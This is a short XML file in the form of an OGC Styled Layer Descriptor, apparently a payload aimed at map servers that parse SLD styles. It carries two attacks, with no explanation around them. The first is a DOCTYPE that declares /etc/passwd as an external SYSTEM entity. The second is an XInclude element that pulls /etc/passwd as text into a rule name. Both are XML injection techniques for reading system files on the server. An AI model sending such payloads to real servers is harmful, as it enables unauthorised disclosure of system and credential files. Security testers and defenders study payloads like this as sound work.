<!DOCTYPE StyledLayerDescriptor SYSTEM "file:///etc/passwd">
<StyledLayerDescriptor version="1.0.0" xmlns="http://www.opengis.net/sld" xmlns:ogc="http://www.opengis.net/ogc">
<NamedLayer><Name>h</Name><UserStyle><FeatureTypeStyle>
<Rule><Name><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/></Name></Rule>
</FeatureTypeStyle></UserStyle></NamedLayer></StyledLayerDescriptor>
